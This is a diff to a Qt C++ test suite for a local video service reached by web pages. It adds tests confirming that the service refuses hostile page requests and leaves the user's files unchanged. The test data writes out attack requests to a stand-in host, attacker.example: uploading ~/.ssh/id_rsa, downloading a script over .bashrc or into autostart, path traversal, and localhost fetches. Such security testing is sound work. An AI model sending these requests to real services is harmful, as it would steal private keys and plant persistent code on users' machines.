@@ -2,7 +2,8 @@
 // build, Qt's offscreen platform: no browser window is ever found), as pages
 // reach it over WebSocket and HTTP: response envelopes, empty answers,
 // scripted library results, library events reaching the page that owns the
-// window, and windows going with their clients. Ports 27900-27909.
+// window, windows going with their clients, and pages kept out of the user's
+// files. Ports 27900-27909; the media folders are temporary ones.
 #include "HttpTestClient.h"
 #include "PageSocket.h"
 #include "ServiceProcess.h"
@@ -14,7 +15,9 @@
 #include <QJsonObject>
 #include <QtTest>
 
+#include <QDirIterator>
 #include <QSet>
+#include <QTemporaryDir>
 
 #include <functional>
 #include <memory>
@@ -47,6 +50,7 @@ class TestVideoService : public QObject {
     Q_OBJECT
 
 private:
+    QTemporaryDir m_folder;  // the media folders, and a home with files pages must not reach
     std::unique_ptr<ServiceProcess> m_pService;
     quint16 m_port = 0;
     std::unique_ptr<PageSocket> m_pFirst, m_pSecond, m_pWindowless;
@@ -86,9 +90,36 @@ private:
         return listBefore;
     }
 
+    // Every file and folder under the home and the folder outside.
+    QStringList outsideFiles() const {
+        QStringList files;
+        for (const char* szFolder : {"home", "outside"}) {
+            QDirIterator it(m_folder.filePath(szFolder), QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot,
+                            QDirIterator::Subdirectories);
+            while (it.hasNext()) files << it.next();
+        }
+        return files;
+    }
+    // The answer to a request of the first page (it has a window).
+    QJsonObject answerOfFirst(const QString& strRequest) {
+        m_pFirst->send(QString(strRequest).replace("%1", m_pFirst->uuid()).replace("%2", m_folder.path()).toUtf8());
+        const QStringList listReceived = drain(*m_pFirst);
+        return listReceived.size() == 1 ? json(listReceived[0].toUtf8()) : QJsonObject();
+    }
+
 private slots:
     void initTestCase() {
-        m_pService = std::make_unique<ServiceProcess>(ServiceProcess::config(27900, "tst_video_service"),
+        QVERIFY(m_folder.isValid());
+        for (const char* szFolder : {"home/.ssh", "outside"}) QVERIFY(QDir().mkpath(m_folder.filePath(szFolder)));
+        for (const char* szFile : {"home/.bashrc", "home/.ssh/id_rsa", "outside/secret.mp4"}) {
+            QFile file(m_folder.filePath(szFile));
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write("the user's");
+        }
+        const QJsonObject folders{{"SnapshotFolder", m_folder.filePath("snapshots")},
+                                  {"RecordingFolder", m_folder.filePath("recordings")},
+                                  {"DownloadFolder", m_folder.filePath("downloads")}};
+        m_pService = std::make_unique<ServiceProcess>(ServiceProcess::config(27900, "tst_video_service", folders),
                                                       ServiceProcess::testHooksBinaryPath());
         m_port = m_pService->startListening();
         QVERIFY(m_port != 0);
@@ -263,6 +294,66 @@ private slots:
         QCOMPARE(setCalled.size(), 90 + 1);  // 90 library functions, and none for the others
 
         QVERIFY(scriptAll([](const QByteArray&) { return QByteArray("{}"); }));
+    }
+
+    // What a page of any site tried on the user's files ("%1" the page's
+    // uuid, "%2" the temporary folder): each fails with its error, and
+    // nothing outside the media folders changes. (Urls in plain strings:
+    // moc takes "//" inside a raw string for a comment.)
+    void attacksOnTheUsersFilesFail_data() {
+        QTest::addColumn<QString>("request");
+        QTest::addColumn<int>("iErrorCode");
+        const QString strCommand = QStringLiteral(R"({"uuid":"%1","sequence":"a",)");
+        QTest::newRow("download over .bashrc")
+            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x.sh\",\"path\":\"%2/home/.bashrc\"}" << 3024;
+        QTest::newRow("download into autostart")
+            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://attacker.example/x\",\"path\":\"../../home/.config/autostart/x.desktop\"}"
+            << 3024;
+        QTest::newRow("upload the ssh key")
+            << strCommand + "\"cmd\":\"video.uploadFile\",\"url\":\"http://attacker.example/up\",\"path\":\"%2/home/.ssh/id_rsa\"}" << 3024;
+        QTest::newRow("record anywhere")
+            << strCommand + R"("cmd":"video.startSave","path":"%2/outside/new/x.mp4"})" << 3024;
+        QTest::newRow("settings make folders anywhere")
+            << strCommand + R"("cmd":"video.setLocalConfig","recordPath":"%2/outside/new"})" << 3024;
+        QTest::newRow("play a file that exists")
+            << strCommand + "\"cmd\":\"video.startPlay\",\"url\":\"file://%2/outside/secret.mp4\"}" << 3024;
+        QTest::newRow("play a file that does not")
+            << strCommand + "\"cmd\":\"video.startPlay\",\"url\":\"file://%2/outside/none.mp4\"}" << 3024;
+        QTest::newRow("download from this machine")
+            << strCommand + "\"cmd\":\"video.downloadFile\",\"url\":\"http://127.0.0.1:27900/\"}" << 3025;
+        QTest::newRow("download from this machine by name")
+            << strCommand + "\"cmd\":\"video.startAsyncDownload\",\"url\":\"http://localhost:27900/\"}" << 3025;
+    }
+    void attacksOnTheUsersFilesFail() {
+        QFETCH(QString, request);
+        QFETCH(int, iErrorCode);
+        const QStringList before = outsideFiles();
+        QCOMPARE(answerOfFirst(request).value("errorCode").toInt(), iErrorCode);
+        QCOMPARE(outsideFiles(), before);
+    }
+
+    // getLocalConfig tells the media folders and nothing else of the user's;
+    // a page does not see, read or stop another page's transfers.
+    void pagesSeeTheirOwnTransfersAndOnlyTheMediaFolders() {
+        const QJsonObject config = answerOfFirst(R"({"cmd":"video.getLocalConfig","uuid":"%1","sequence":"c"})");
+        for (const char* szKey : {"snapshotPath", "recordPath", "downloadPath"})
+            QVERIFY2(config.value(szKey).toString().startsWith(m_folder.path() + '/'), szKey);
+        QVERIFY(!config.contains("configFile"));
+
+        const QJsonObject started = answerOfFirst(
+            "{\"cmd\":\"video.startAsyncDownload\",\"uuid\":\"%1\",\"sequence\":\"d\",\"url\":\"http://192.0.2.1/x.mp4\"}");
+        QCOMPARE(started.value("downloadId").toInt(), 1);
+        for (const char* szCommand : {"getDownloadStatus", "stopAsyncDownload"}) {
+            m_pSecond->send(QStringLiteral(R"({"cmd":"video.%1","uuid":"%2","sequence":"e","downloadId":1})")
+                                .arg(QLatin1String(szCommand), m_pSecond->uuid())
+                                .toUtf8());
+            const QStringList listReceived = drain(*m_pSecond);
+            QCOMPARE(listReceived.size(), 1);
+            QCOMPARE(json(listReceived[0].toUtf8()).value("errorCode").toInt(), 3020);
+        }
+        const QJsonObject status = answerOfFirst(R"({"cmd":"video.getDownloadStatus","uuid":"%1","sequence":"f","downloadId":1})");
+        QCOMPARE(status.value("downloadId").toInt(), 1);  // its own
+        answerOfFirst(R"({"cmd":"video.stopAsyncDownload","uuid":"%1","sequence":"g","downloadId":1})");
     }
 
     void everyWindowCommandAnswers_data() {
